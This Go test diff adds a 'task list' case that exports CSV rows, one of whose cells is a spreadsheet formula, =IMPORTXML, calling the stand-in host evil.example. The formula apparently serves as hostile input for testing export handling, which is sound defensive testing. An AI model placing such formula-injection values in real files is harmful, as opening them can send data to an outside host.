@@ -152,6 +152,10 @@ func TestOthersKilledAnywhere(t *testing.T) {
 		"tasks": func(w *world) (any, error) {
 			return run[archive.Artifact](t, w, true, w.activities().ExportTasks, archive.ExportTasks{Effect: effect("tasks"), Sheet: "sheet", File: to("x", "tasks.xlsx")})
 		},
+		"task list": func(w *world) (any, error) {
+			rows := [][]string{{"Id", "Task"}, {"t1", "=IMPORTXML(\"https://evil.example\")"}}
+			return run[archive.Artifact](t, w, true, w.activities().ExportTaskList, archive.ExportTaskList{Effect: effect("task list"), Rows: rows, File: to("l", "tasks.csv")})
+		},
 		"manifest": func(w *world) (any, error) {
 			return run[archive.Manifest](t, w, true, w.activities().WriteManifest, archive.WriteManifest{
 				Effect: effect("manifest"), Number: "SEC-42", Artifacts: m.artifacts, Counts: m.said.Counts, Logs: w.logs, File: to("f", "manifest.json"),
